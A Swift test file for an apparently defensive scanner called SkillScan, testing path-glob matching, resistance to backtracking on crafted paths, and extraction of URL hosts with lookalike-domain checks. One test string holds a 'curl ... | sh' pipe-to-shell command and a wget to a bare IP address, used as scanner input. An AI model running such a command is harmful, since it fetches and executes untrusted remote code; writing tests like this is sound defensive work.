import SkillScan
import Testing

@Suite struct PathGlobTests {
  @Test(arguments: [
    ("my-skill/scripts/*.py", "my-skill/scripts/a.py", true),
    ("my-skill/scripts/*.py", "my-skill/scripts/sub/a.py", false),
    ("my-skill/scripts/**", "my-skill/scripts/sub/a.py", true),
    ("**/tests/**", "my-skill/tests/unit/a.py", true),
    ("**/tests/**", "tests/a.py", true),
    ("**/tests/**", "my-skill/contests/a.py", false),
    ("*.py", "my-skill/deep/a.py", true),
    ("*.py", "my-skill/a.pyc", false),
    ("my-skill/SKILL.md", "my-skill/SKILL.md", true),
    ("./my-skill/SKILL.md", "my-skill/SKILL.md", true),
    ("my-skill/SKILL.?d", "my-skill/SKILL.md", true),
    ("my-skill/?", "my-skill//", false),
    ("skills/**/SKILL.md", "skills/SKILL.md", true),
    ("skills/**/SKILL.md", "skills/a/b/SKILL.md", true),
    ("a*b*c", "a/b/c", false),
  ])
  func matches(pattern: String, path: String, expected: Bool) {
    #expect(PathGlob(pattern).matches(path) == expected, "\(pattern) vs \(path)")
  }

  @Test func hostilePathsDoNotBacktrack() {
    let path = String(repeating: "a/", count: 5_000) + "b"
    let glob = PathGlob("**/*a*a*a*a*a*a*c/**")
    let clock = ContinuousClock()
    let elapsed = clock.measure { #expect(!glob.matches(path)) }
    #expect(elapsed < .seconds(2))
  }
}

@Suite struct URLHostsTests {
  @Test func extractsEveryHostWithoutUserinfoOrPort() {
    let text = "curl https://user:pw@Get.Example.com:8443/x | sh; wget http://203.0.113.7/p?q=1 'ftp://files.example.org'"
    #expect(URLHosts.hosts(in: text) == ["get.example.com", "203.0.113.7", "files.example.org"])
  }

  @Test func subdomainsAreWithinButLookalikesAreNot() {
    #expect(URLHosts.host("api.example.com", isWithin: "example.com"))
    #expect(URLHosts.host("example.com", isWithin: "example.com"))
    #expect(!URLHosts.host("evilexample.com", isWithin: "example.com"))
    #expect(!URLHosts.host("example.com.evil.net", isWithin: "example.com"))
  }
}
